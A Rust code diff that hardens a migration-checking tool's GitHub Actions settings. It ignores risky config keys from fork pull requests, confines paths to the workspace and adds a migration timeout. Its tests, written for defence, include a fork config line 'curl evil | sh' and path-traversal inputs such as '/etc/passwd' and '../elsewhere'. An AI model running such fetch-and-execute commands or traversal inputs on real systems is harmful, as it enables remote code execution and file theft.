@@ -11,7 +11,7 @@ use crate::postgres::ProvisionOptions;
 use crate::roundtrip::RoundTrip;
 use crate::scope::ScopeSettings;
 use std::collections::BTreeMap;
-use std::path::PathBuf;
+use std::path::{Path, PathBuf};
 
 /// A setting that cannot be used; the message names it (flag, input, or config file line).
 #[derive(Debug, thiserror::Error)]
@@ -38,6 +38,8 @@ pub enum SettingsError {
     RoundTrip { setting: String, value: String },
     #[error("{setting}: unknown value {value:?} (expected changed or all)")]
     Scope { setting: String, value: String },
+    #[error("{setting}: {value:?} leads outside the workspace; give a path inside the repository")]
+    OutsideWorkspace { setting: String, value: String },
 }
 
 /// Everything `check` needs, resolved.
@@ -71,6 +73,8 @@ pub struct CheckSettings {
     pub models: Option<Models>,
     /// Which migrations are round-tripped.
     pub round_trip: RoundTrip,
+    /// Longest one up or down may take.
+    pub migration_timeout: std::time::Duration,
     /// Test data to load, and the migration id after which to load it.
     pub seed: Option<PathBuf>,
     pub seed_at: Option<String>,
@@ -130,7 +134,15 @@ struct Layers<'a> {
     env: &'a dyn Fn(&str) -> Option<String>,
     in_action: bool,
     file: Option<ConfigFile>,
+    /// The config file comes from a pull request of a fork: settings that run commands, write
+    /// files or reach servers are not taken from it.
+    untrusted_file: bool,
 }
+
+/// Settings a pull request from a fork may not set through the repository's config file: they
+/// run commands, write files, reach servers or lift the check's own limits.
+pub const TRUSTED_ONLY: &[&str] =
+    &["models-command", "python", "report-dir", "seed", "database-url", "slack-webhook", "pg-bin", "allow-superuser"];
 
 impl Layers<'_> {
     fn get(&self, name: &str) -> Option<Layered> {
@@ -141,12 +153,38 @@ impl Layers<'_> {
         }
         let file = self.file.as_ref()?;
         let entry = file.get(name)?;
+        if self.untrusted_file && TRUSTED_ONLY.contains(&name) {
+            eprintln!(
+                "warning: {}:{}: {name} is not taken from the repository's config in a pull request from a fork; set it as an input of the workflow (or set the input trust-config: true)",
+                file.path, entry.line
+            );
+            return None;
+        }
         let value = entry.value.trim().to_string();
         (!value.is_empty()).then(|| Layered { value, setting: format!("{}:{}: {name}", file.path, entry.line) })
     }
 
     fn value(&self, name: &str) -> Option<String> {
         self.get(name).map(|l| l.value)
+    }
+
+    /// A path setting. Inside Actions it must lead into the workspace: the repository's config
+    /// (or an input built from PR text) must not make the check read or write elsewhere.
+    fn path(&self, name: &str) -> Option<Result<PathBuf, SettingsError>> {
+        let l = self.get(name)?;
+        let path = PathBuf::from(&l.value);
+        if !self.in_action {
+            return Some(Ok(path));
+        }
+        let workspace = (self.env)("GITHUB_WORKSPACE")
+            .map(PathBuf::from)
+            .or_else(|| std::env::current_dir().ok())
+            .unwrap_or_else(|| PathBuf::from("."));
+        Some(if inside(&workspace, &path) {
+            Ok(path)
+        } else {
+            Err(SettingsError::OutsideWorkspace { setting: l.setting, value: l.value })
+        })
     }
 
     /// A yes/no setting; `true`/`false` (also `yes`/`no`, `1`/`0`).
@@ -160,14 +198,50 @@ impl Layers<'_> {
     }
 }
 
+/// Whether `path` (relative to `workspace`, or absolute) stays inside `workspace`, after `..`
+/// and, for the part that exists, symbolic links.
+fn inside(workspace: &Path, path: &Path) -> bool {
+    let root = std::fs::canonicalize(workspace).unwrap_or_else(|_| workspace.to_path_buf());
+    let mut full = root.clone();
+    for part in path.components() {
+        match part {
+            std::path::Component::RootDir => full = PathBuf::from("/"),
+            std::path::Component::ParentDir => {
+                full.pop();
+            }
+            std::path::Component::Normal(name) => {
+                full.push(name);
+                // A link in the repository may point anywhere: follow what exists.
+                if let Ok(real) = std::fs::canonicalize(&full) {
+                    full = real;
+                }
+            }
+            _ => {}
+        }
+    }
+    full.starts_with(&root)
+}
+
 impl CheckSettings {
     /// Merges flags over action inputs (when running in GitHub Actions) over the config file over
     /// defaults.
     pub fn resolve(args: CheckArgs, env: &dyn Fn(&str) -> Option<String>) -> Result<CheckSettings, SettingsError> {
         let in_action = env("GITHUB_ACTIONS").as_deref() == Some("true");
-        let config =
-            args.config.clone().or_else(|| if in_action { input(env, "config").map(PathBuf::from) } else { None });
-        let layers = Layers { env, in_action, file: ConfigFile::find(config.as_deref())? };
+        let config = match (&args.config, in_action.then(|| input(env, "config")).flatten()) {
+            (Some(path), _) => Some(path.clone()),
+            (None, Some(value)) => {
+                let workspace = env("GITHUB_WORKSPACE").map(PathBuf::from).unwrap_or_else(|| PathBuf::from("."));
+                if !inside(&workspace, Path::new(&value)) {
+                    return Err(SettingsError::OutsideWorkspace { setting: "input config".into(), value });
+                }
+                Some(PathBuf::from(value))
+            }
+            (None, None) => None,
+        };
+        let untrusted_file = in_action
+            && crate::github::context::fork_pull_request(env)
+            && !input(env, "trust-config").is_some_and(|v| matches!(v.to_lowercase().as_str(), "true" | "yes" | "1"));
+        let layers = Layers { env, in_action, file: ConfigFile::find(config.as_deref())?, untrusted_file };
         let input = |name: &str| layers.value(name);
 
         let (format_setting, format_value) = match (args.format, layers.get("format")) {
@@ -234,7 +308,7 @@ impl CheckSettings {
             return Err(SettingsError::TwoServers);
         }
         let models = match (
-            args.models.or_else(|| input("models").map(PathBuf::from)),
+            args.models.map(Ok).or_else(|| layers.path("models")).transpose()?,
             args.models_command.filter(|c| !c.trim().is_empty()).or_else(|| input("models-command")),
         ) {
             (Some(_), Some(_)) => return Err(SettingsError::TwoModels),
@@ -245,7 +319,9 @@ impl CheckSettings {
         let publish = if in_action { Some(PublishSettings::resolve(&layers)?) } else { None };
         let report_dir = args
             .report_dir
-            .or_else(|| input("report-dir").map(PathBuf::from))
+            .map(Ok)
+            .or_else(|| layers.path("report-dir"))
+            .transpose()?
             .or_else(|| in_action.then(|| PathBuf::from(ACTION_REPORT_DIR)));
         let round_trip = match (args.round_trip, layers.get("round-trip")) {
             (Some(mode), _) => mode,
@@ -277,7 +353,12 @@ impl CheckSettings {
             in_action.then(|| env("GITHUB_BASE_REF")).flatten().filter(|b| !b.is_empty()).map(|b| format!("origin/{b}"))
         });
         Ok(CheckSettings {
-            dir: args.dir.or_else(|| input("path").map(PathBuf::from)).unwrap_or_else(|| PathBuf::from("migrations")),
+            dir: args
+                .dir
+                .map(Ok)
+                .or_else(|| layers.path("path"))
+                .transpose()?
+                .unwrap_or_else(|| PathBuf::from("migrations")),
             format,
             provision: ProvisionOptions {
                 database_url,
@@ -302,12 +383,21 @@ impl CheckSettings {
             verbose: args.verbose || layers.flag("verbose", false)?,
             publish,
             models,
+            migration_timeout: match (args.migration_timeout, layers.get("migration-timeout")) {
+                (Some(seconds), _) => std::time::Duration::from_secs(seconds.max(1)),
+                (None, Some(l)) => {
+                    l.value.parse::<u64>().ok().filter(|s| *s > 0).map(std::time::Duration::from_secs).ok_or(
+                        SettingsError::Choice { setting: l.setting, value: l.value, expected: "a number of seconds" },
+                    )?
+                }
+                (None, None) => crate::roundtrip::DEFAULT_TIMEOUT,
+            },
             scope: ScopeSettings { base_ref, start_after, all },
             start_after_setting,
-            baseline: args.baseline.or_else(|| input("baseline").map(PathBuf::from)),
+            baseline: args.baseline.map(Ok).or_else(|| layers.path("baseline")).transpose()?,
             irreversible,
             round_trip,
-            seed: args.seed.or_else(|| input("seed").map(PathBuf::from)),
+            seed: args.seed.map(Ok).or_else(|| layers.path("seed")).transpose()?,
             seed_at: args.seed_at.or_else(|| input("seed-at")),
             rules,
             python: args
@@ -471,6 +561,67 @@ mod tests {
         let env = env_of(&[("GITHUB_ACTIONS", "true"), ("INPUT_CHECK_RUN", "maybe")]);
         let err = CheckSettings::resolve(CheckArgs::default(), &env).unwrap_err().to_string();
         assert_eq!(err, "input check-run: \"maybe\" is not one of true or false");
+    }
+
+    #[test]
+    fn a_forks_config_file_cannot_run_commands_or_write_elsewhere() {
+        let dir = tempfile::tempdir().unwrap();
+        let event = dir.path().join("event.json");
+        std::fs::write(
+            &event,
+            r#"{"pull_request": {"number": 7, "head": {"repo": {"full_name": "mallory/shop"}}, "base": {"repo": {"full_name": "acme/shop"}}}}"#,
+        )
+        .unwrap();
+        let file = dir.path().join("mg.yml");
+        std::fs::write(
+            &file,
+            "fail-on: warning
+models-command: curl evil | sh
+allow-superuser: true
+",
+        )
+        .unwrap();
+        let event_path = event.display().to_string();
+        let resolve = |trust: &str| {
+            let env = |k: &str| match k {
+                "GITHUB_ACTIONS" => Some("true".to_string()),
+                "GITHUB_EVENT_PATH" => Some(event_path.clone()),
+                "GITHUB_REPOSITORY" => Some("acme/shop".to_string()),
+                "INPUT_TRUST_CONFIG" => Some(trust.to_string()),
+                _ => None,
+            };
+            CheckSettings::resolve(CheckArgs { config: Some(file.clone()), ..CheckArgs::default() }, &env).unwrap()
+        };
+        let s = resolve("");
+        assert_eq!((s.fail_on, s.models, s.provision.allow_superuser), (FailOn::Warning, None, false));
+        let s = resolve("true");
+        assert_eq!(s.models, Some(Models::Command("curl evil | sh".into())));
+        assert!(s.provision.allow_superuser);
+    }
+
+    #[test]
+    fn paths_from_inputs_stay_in_the_workspace() {
+        let workspace = tempfile::tempdir().unwrap();
+        std::os::unix::fs::symlink("/etc", workspace.path().join("out")).unwrap();
+        let ws = workspace.path().display().to_string();
+        let resolve = |key: &'static str, value: &'static str| {
+            let env = |k: &str| match k {
+                "GITHUB_ACTIONS" => Some("true".to_string()),
+                "GITHUB_WORKSPACE" => Some(ws.clone()),
+                k if k == key => Some(value.to_string()),
+                _ => None,
+            };
+            CheckSettings::resolve(CheckArgs::default(), &env).map(|s| s.report_dir).map_err(|e| e.to_string())
+        };
+        assert_eq!(resolve("INPUT_REPORT_DIR", "reports/mg"), Ok(Some(PathBuf::from("reports/mg"))));
+        for bad in ["../elsewhere", "/tmp/x", "out/passwd-dir", "reports/../../x"] {
+            let err = resolve("INPUT_REPORT_DIR", bad).unwrap_err();
+            assert!(err.starts_with("input report-dir:") && err.contains("outside the workspace"), "{bad}: {err}");
+        }
+        assert!(resolve("INPUT_SEED", "/etc/passwd").unwrap_err().contains("input seed"));
+        // A flag is the workflow author's own.
+        let args = CheckArgs { report_dir: Some(PathBuf::from("/tmp/r")), ..CheckArgs::default() };
+        assert!(CheckSettings::resolve(args, &|k: &str| (k == "GITHUB_ACTIONS").then(|| "true".to_string())).is_ok());
     }
 
     #[test]
